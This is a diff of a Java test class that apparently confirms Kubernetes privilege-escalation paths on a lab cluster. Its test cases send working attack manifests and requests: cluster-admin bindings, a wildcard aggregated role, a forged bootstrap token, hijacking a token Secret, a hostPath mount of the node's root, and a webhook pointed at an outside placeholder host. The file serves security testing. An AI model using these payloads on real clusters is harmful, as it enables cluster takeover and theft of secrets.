@@ -32,11 +32,11 @@ import org.junit.jupiter.api.io.TempDir;
 final class EscalationOnLabTest {
     private static final String RBAC = "rbac.authorization.k8s.io";
     private static final String ROBOT_IS_ADMIN = """
-            {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: robot-is-admin},
-             subjects: [{kind: ServiceAccount, name: robot, namespace: trials},
-                        {apiGroup: rbac.authorization.k8s.io, kind: User, name: root}],
-             roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}}
-            """;
+        {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: robot-is-admin},
+         subjects: [{kind: ServiceAccount, name: robot, namespace: trials},
+                    {apiGroup: rbac.authorization.k8s.io, kind: User, name: root}],
+         roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}}
+        """;
     private static final Goal ROBOT = Goal.becomes("trials", "robot");
     private static final String SECRETS = "/api/v1/namespaces/trials/secrets";
 
@@ -121,10 +121,10 @@ final class EscalationOnLabTest {
     }
 
     private static final String BINDING_OF = """
-            {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: %s-made},
-             subjects: [{kind: ServiceAccount, name: %s, namespace: trials}],
-             roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}}
-            """;
+        {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: %s-made},
+         subjects: [{kind: ServiceAccount, name: %s, namespace: trials}],
+         roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}}
+        """;
 
     @Test
     void bindingARole() {
@@ -162,17 +162,17 @@ final class EscalationOnLabTest {
     @Test
     void writingIntoWhatARoleGathers() {
         String gatherer = """
-                {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, metadata: {name: gatherer},
-                 aggregationRule: {clusterRoleSelectors: [{matchLabels: {gather: 'yes'}}]}}
-                """;
+            {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, metadata: {name: gatherer},
+             aggregationRule: {clusterRoleSelectors: [{matchLabels: {gather: 'yes'}}]}}
+            """;
         String binding = BINDING_OF.formatted("gather", "gather").replace("cluster-admin", "gatherer");
         try (Trial trial = trial("gather", rule("escalate, create", RBAC, "clusterroles"), gatherer, binding)) {
             trial.proves(Step.Kind.ESCALATE, Goal.CLUSTER_ADMIN);
             done(trial.eve("""
-                    {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole,
-                     metadata: {name: gathered, labels: {gather: 'yes'}},
-                     rules: [{verbs: ['*'], apiGroups: ['*'], resources: ['*']}]}
-                    """));
+                {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole,
+                 metadata: {name: gathered, labels: {gather: 'yes'}},
+                 rules: [{verbs: ['*'], apiGroups: ['*'], resources: ['*']}]}
+                """));
             Trial.isAdministrator(trial.eve(), "");
         }
     }
@@ -236,12 +236,12 @@ final class EscalationOnLabTest {
         try (Trial trial =
                 trial("change-secret", rule("get, patch", "", "secrets", "others"), tokenSecret("others", "other"))) {
             trial.proves(Step.Kind.CHANGE_TOKEN_SECRET, ROBOT);
-            done(
-                    trial.eve(
-                            "PATCH",
-                            SECRETS + "/others",
-                            "application/merge-patch+json",
-                            "{metadata: {annotations: {kubernetes.io/service-account.name: robot, kubernetes.io/service-account.uid: null}}, data: null}"));
+            done(trial.eve(
+                    "PATCH",
+                    SECRETS + "/others",
+                    "application/merge-patch+json",
+                    "{metadata: {annotations: {kubernetes.io/service-account.name: robot,"
+                            + " kubernetes.io/service-account.uid: null}}, data: null}"));
             hasToken(trial, "others", "robot");
         }
     }
@@ -249,18 +249,18 @@ final class EscalationOnLabTest {
     @Test
     void aBootstrapToken() {
         String join = """
-                {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: join},
-                 subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: 'system:bootstrappers:ops'}],
-                 roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}}
-                """;
+            {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: join},
+             subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: 'system:bootstrappers:ops'}],
+             roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}}
+            """;
         try (Trial trial = trial("bootstrap", rule("create", "", "secrets"), join)) {
             trial.proves(Step.Kind.MAKE_BOOTSTRAP_TOKEN, Goal.CLUSTER_ADMIN);
             done(trial.eve("""
-                    {apiVersion: v1, kind: Secret, type: bootstrap.kubernetes.io/token,
-                     metadata: {name: bootstrap-token-abcdef, namespace: kube-system},
-                     stringData: {token-id: abcdef, token-secret: 0123456789abcdef, usage-bootstrap-authentication: 'true',
-                                  auth-extra-groups: 'system:bootstrappers:ops'}}
-                    """));
+                {apiVersion: v1, kind: Secret, type: bootstrap.kubernetes.io/token,
+                 metadata: {name: bootstrap-token-abcdef, namespace: kube-system},
+                 stringData: {token-id: abcdef, token-secret: 0123456789abcdef, usage-bootstrap-authentication: 'true',
+                              auth-extra-groups: 'system:bootstrappers:ops'}}
+                """));
             try (ApiClient joined = trial.with("abcdef.0123456789abcdef")) {
                 for (int i = 0; i < 50 && joined.get("/api").join().code() == 401; i++) {
                     Trial.pause();
@@ -310,8 +310,8 @@ final class EscalationOnLabTest {
     void aPodThatReachesItsNodeWhereTheLevelIsChanged() {
         MapValue restricted = MapValue.of(
                 "metadata", MapValue.of("labels", MapValue.of("pod-security.kubernetes.io/enforce", "restricted")));
-        String level =
-                "{apiVersion: v1, kind: Namespace, metadata: {name: trials, labels: {pod-security.kubernetes.io/enforce: restricted}}}";
+        String level = "{apiVersion: v1, kind: Namespace, metadata: {name: trials, labels:"
+                + " {pod-security.kubernetes.io/enforce: restricted}}}";
         String rules = rule("create", "", "pods") + "," + rule("patch", "", "namespaces", "trials");
         try (Trial trial = trial("relax", rules, level)) {
             trial.proves(Step.Kind.POD_ON_NODE, new Goal.Gets(new Power.OnNode()));
@@ -380,11 +380,120 @@ final class EscalationOnLabTest {
         try (Trial trial = trial("webhook", rule("create", group, "mutatingwebhookconfigurations"))) {
             trial.proves(Step.Kind.ADMISSION_WEBHOOK, Goal.CLUSTER_ADMIN);
             done(trial.eve("""
-                    {apiVersion: admissionregistration.k8s.io/v1, kind: MutatingWebhookConfiguration, metadata: {name: eves},
-                     webhooks: [{name: eve.example.org, sideEffects: None, admissionReviewVersions: [v1], failurePolicy: Ignore,
-                                 clientConfig: {url: 'https://192.0.2.1/'},
-                                 rules: [{apiGroups: [example.org], apiVersions: ['*'], operations: ['*'], resources: ['*']}]}]}
-                    """));
+                {apiVersion: admissionregistration.k8s.io/v1, kind: MutatingWebhookConfiguration, metadata: {name: eves},
+                 webhooks: [{name: eve.example.org, sideEffects: None, admissionReviewVersions: [v1], failurePolicy: Ignore,
+                             clientConfig: {url: 'https://192.0.2.1/'},
+                             rules: [{apiGroups: [example.org], apiVersions: ['*'], operations: ['*'], resources: ['*']}]}]}
+                """));
+        }
+    }
+
+    @Test
+    void aWorkloadThatIsChangedToAnotherAccount() {
+        String deployment =
+                "{apiVersion: apps/v1, kind: Deployment, metadata: {name: web, namespace: trials}, spec: {selector:"
+                        + " {matchLabels: {app: web}}, template: {metadata: {labels: {app: web}}, spec:"
+                        + " {serviceAccountName: other, containers: [{name: c, image: c}]}}}}";
+        try (Trial trial = trial("change-workload", rule("patch", "apps", "deployments", "web"), deployment)) {
+            trial.proves(Step.Kind.CHANGE_POD, ROBOT);
+            done(trial.eve(
+                    "PATCH",
+                    "/apis/apps/v1/namespaces/trials/deployments/web",
+                    "application/merge-patch+json",
+                    "{spec: {template: {spec: {serviceAccountName: robot, serviceAccount: robot}}}}"));
+            String pods = "/api/v1/namespaces/trials/pods?labelSelector=app%3Dweb";
+            for (int i = 0; i < 100; i++) {
+                if (admin.get(pods).join().tree().toJson().contains("\"serviceAccountName\":\"robot\"")) {
+                    return;
+                }
+                Trial.pause();
+            }
+            throw new AssertionError("no Pod of the Deployment runs as robot");
+        }
+    }
+
+    private static final String TARGET = "/api/v1/namespaces/trials/pods/target/";
+
+    @Test
+    void aContainerInSomebodysPod() {
+        String rules = rule("patch", "", "pods/ephemeralcontainers", "target");
+        try (Trial trial = trial("debug-pod", rules, pod("target", ""))) {
+            trial.proves(Step.Kind.CHANGE_POD, ROBOT);
+            done(trial.eve(
+                    "PATCH",
+                    TARGET + "ephemeralcontainers",
+                    "application/strategic-merge-patch+json",
+                    "{spec: {ephemeralContainers: [{name: eves, image: eves}]}}"));
+        }
+    }
+
+    /** Nothing runs there to get into, but the API server would pass it on: it asks for the upgrade of the connection. */
+    @Test
+    void gettingIntoSomebodysPod() {
+        for (String verb : new String[] {"create", "get"}) {
+            try (Trial trial = trial("exec-" + verb, rule(verb, "", "pods/exec", "target"), pod("target", ""))) {
+                trial.proves(Step.Kind.EXEC_INTO_POD, ROBOT);
+                String method = verb.equals("create") ? "POST" : "GET";
+                ApiAnswer answer = Trial.retried(() -> trial.eve()
+                        .send(new dev.minato.live.ApiCall(method, TARGET + "exec?command=id&stdout=true", "", null, ""))
+                        .join());
+                assertThat(answer.message()).contains("Upgrade request required");
+            }
+        }
+    }
+
+    /** The kubelet is none, so the API server does not reach it; but it tries. */
+    @Test
+    void commandingAKubelet() {
+        try (Trial trial = trial("node-proxy", rule("get", "", "nodes/proxy"))) {
+            trial.proves(Step.Kind.NODE_PROXY, new Goal.Gets(new Power.OnNode()));
+            String node = admin.get("/api/v1/nodes")
+                    .join()
+                    .tree()
+                    .list("items")
+                    .maps()
+                    .getFirst()
+                    .textOrEmpty("metadata", "name");
+            String denial = "cannot get resource \"nodes/proxy\"";
+            String path = "/api/v1/nodes/" + node + "/proxy/pods";
+            ApiAnswer answer = trial.eve().get(path).join();
+            for (int i = 0; i < 100 && answer.message().contains(denial); i++) {
+                Trial.pause();
+                answer = trial.eve().get(path).join();
+            }
+            assertThat(answer.message()).doesNotContain(denial);
+        }
+    }
+
+    @Test
+    void aVolumeOfTheNodesDirectoryInARestrictedNamespace() {
+        String level = "{apiVersion: v1, kind: Namespace, metadata: {name: trials-restricted, labels:"
+                + " {pod-security.kubernetes.io/enforce: baseline}}}";
+        String account =
+                "{apiVersion: v1, kind: ServiceAccount, metadata: {name: default, namespace: trials-restricted}}";
+        try (Trial trial = trial(
+                "volume", rule("create", "", "persistentvolumes, persistentvolumeclaims, pods"), level, account)) {
+            trial.proves(Step.Kind.POD_ON_NODE, new Goal.Gets(new Power.OnNode()));
+            done(trial.eve("{apiVersion: v1, kind: PersistentVolume, metadata: {name: root}, spec: {capacity:"
+                    + " {storage: 1Gi}, accessModes: [ReadWriteOnce], storageClassName: '', hostPath:"
+                    + " {path: /}}}"));
+            done(trial.eve("{apiVersion: v1, kind: PersistentVolumeClaim, metadata: {name: root, namespace:"
+                    + " trials-restricted}, spec: {accessModes: [ReadWriteOnce], storageClassName: '',"
+                    + " volumeName: root, resources: {requests: {storage: 1Gi}}}}"));
+            done(trial.eve("{apiVersion: v1, kind: Pod, metadata: {name: root, namespace: trials-restricted}, spec:"
+                    + " {containers: [{name: c, image: c, volumeMounts: [{name: root, mountPath:"
+                    + " /host}]}], volumes: [{name: root, persistentVolumeClaim: {claimName: root}}]}}"));
+        }
+    }
+
+    @Test
+    void aPartOfTheApiThatIsAnsweredByOneself() {
+        try (Trial trial = trial("api-service", rule("create", "apiregistration.k8s.io", "apiservices"))) {
+            trial.proves(Step.Kind.AGGREGATED_API, Goal.CLUSTER_ADMIN);
+            done(trial.eve("{apiVersion: apiregistration.k8s.io/v1, kind: APIService, metadata: {name:"
+                    + " v1.trials.example.org}, spec: {group: trials.example.org, version: v1,"
+                    + " groupPriorityMinimum: 100, versionPriority: 100, insecureSkipTLSVerify: true,"
+                    + " service: {name: eve, namespace: trials}}}"));
         }
     }
 
